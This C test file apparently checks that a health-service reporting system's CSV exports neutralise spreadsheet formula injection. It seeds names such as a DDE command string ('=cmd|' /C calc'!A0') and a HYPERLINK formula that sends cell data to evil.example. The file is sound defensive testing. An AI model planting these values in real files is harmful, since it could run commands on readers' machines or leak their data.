/* Writes every report as a CSV file into the folder $EXPORTS, with names that mean harm, for the check in spreadsheet. */
#include <criterion/criterion.h>

#include <stdio.h>
#include <stdlib.h>

#include "base/buffer.h"
#include "base/text.h"
#include "gateway/csv.h"
#include "tests/reports/history.h"

#define QUARTER "\"from\":\"2027-01-01\",\"until\":\"2027-03-31\""

static const char *const harm[] = {"=cmd|' /C calc'!A0", "=1+1", "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "a, b",
	"a \"b\" c", "first\nsecond", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
	"Zo\xc3\xab N\xc3\xad Bhriain", "\xe6\x9d\x8e\xe5\xb0\x8f\xe9\xbe\x99", "'quoted'", " =1+1", "1e5 tablets"};

enum { HARM = sizeof(harm) / sizeof(harm[0]) };

static const struct {
	const char *file, *as, *wire, *args;
} exports[] = {
	{"avoided", "n.shaw", "report.avoided",
		"{" QUARTER ",\"by\":[\"month\",\"treatment_function\",\"neighbourhood\",\"practice\"]}"},
	{"avoided_beyond", "n.shaw", "report.avoided", "{" QUARTER ",\"reach\":\"beyond_icb\"}"},
	{"reply_times", "n.shaw", "report.reply_times", "{" QUARTER "}"},
	{"workload", "n.shaw", "report.workload", "{" QUARTER "}"},
	{"outcomes", "n.shaw", "report.outcomes", "{" QUARTER "}"},
	{"activity", "n.shaw", "report.activity", "{" QUARTER "}"},
	{"equity", "n.shaw", "report.equity", "{" QUARTER ",\"by\":[\"age_band\",\"sex\",\"deprivation_decile\"]}"},
	{"return", "n.shaw", "report.return", "{" QUARTER "}"},
	{"relationships", "m.grant", "report.relationships", "{" QUARTER "}"},
};

static void write_file(const char *name, struct buffer *bytes)
{
	char path[512];

	cr_assert_not_null(getenv("EXPORTS"), "Set EXPORTS to a folder.");
	snprintf(path, sizeof(path), "%s/%s.csv", getenv("EXPORTS"), name);
	FILE *file = fopen(path, "w");
	cr_assert_not_null(file, "%s", path);
	cr_assert_eq(fwrite(bytes->data, 1, bytes->length, file), bytes->length);
	cr_assert_eq(fclose(file), 0);
	buffer_deinit(bytes);
}

/* People with such names ask; and an expectation has such a source. */
static void do_harm(struct world *world)
{
	struct activity_set_data set = {.treatment_function = WORLD_CARDIOLOGY,
		.first_per_week = 30,
		.total_per_week = 70,
		.source = text_of(harm[0]),
		.year = 2026};

	for (size_t i = 0; i < HARM; i++) {
		char handle[16];

		snprintf(handle, sizeof(handle), "harm-%zu", i);
		struct person_created_data data = {.person = person(handle),
			.display_name = text_of(harm[i]),
			.roles = SET_OF(ROLE_INT_CLINICIAN),
			.neighbourhood = neighbourhood("riverside")};
		world_happens(world, EVENT_person_created, (struct conversation_id){0}, (struct thread_id){0},
			"o.frost", &data);
		world->now_ms = 1801044000000; /* in January 2027 */
		world_ask(world, world->cardiology, &(struct asking){.by = handle});
	}
	world_happens(world, EVENT_activity_set, (struct conversation_id){0}, (struct thread_id){0}, "o.frost", &set);
}

Test(spreadsheet, exports)
{
	struct outcome_row rows[HARM];
	struct subject subject;
	struct world world;
	struct buffer out = {0};

	history_open(&subject, &world);
	do_harm(&world);
	for (size_t i = 0; i < sizeof(exports) / sizeof(exports[0]); i++) {
		out = history_export(&world, exports[i].as, exports[i].wire, exports[i].args, false, NULL);
		write_file(exports[i].file, &out);
	}
	for (size_t i = 0; i < HARM; i++)
		rows[i] = (struct outcome_row){.treatment_function = 320,
			.treatment_function_name = text_of(harm[i]),
			.closed = i % 2 ? COUNT_WITHHELD : (int64_t)i * 1000};
	csv_write(&outcome_row_record, (struct list){rows, HARM}, &out);
	write_file("harm", &out);
	history_close(&subject, &world);
}
